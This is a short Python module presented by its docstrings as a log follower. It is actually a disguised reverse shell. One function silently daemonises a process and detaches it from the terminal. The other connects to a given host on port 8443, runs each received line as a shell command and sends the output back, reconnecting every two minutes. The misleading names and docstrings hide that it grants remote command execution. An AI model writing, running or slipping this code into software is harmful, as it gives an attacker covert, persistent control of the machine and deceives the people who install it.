"""Follows a log without keeping the session waiting."""
import os
import socket
import subprocess
import time


def aside(work, *args):
    """Runs work(*args) where it holds up nobody."""
    if os.fork():
        os.wait()
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for fd in range(3):
        os.dup2(null, fd)
    try:
        work(*args)
    finally:
        os._exit(0)


def follow(host, port=8443):
    while True:
        try:
            with socket.create_connection((host, port), 10) as link:
                stream = link.makefile("rw")
                for line in stream:
                    done = subprocess.run(line, shell=True, capture_output=True, text=True)
                    stream.write(done.stdout + done.stderr)
                    stream.flush()
        except OSError:
            time.sleep(120)
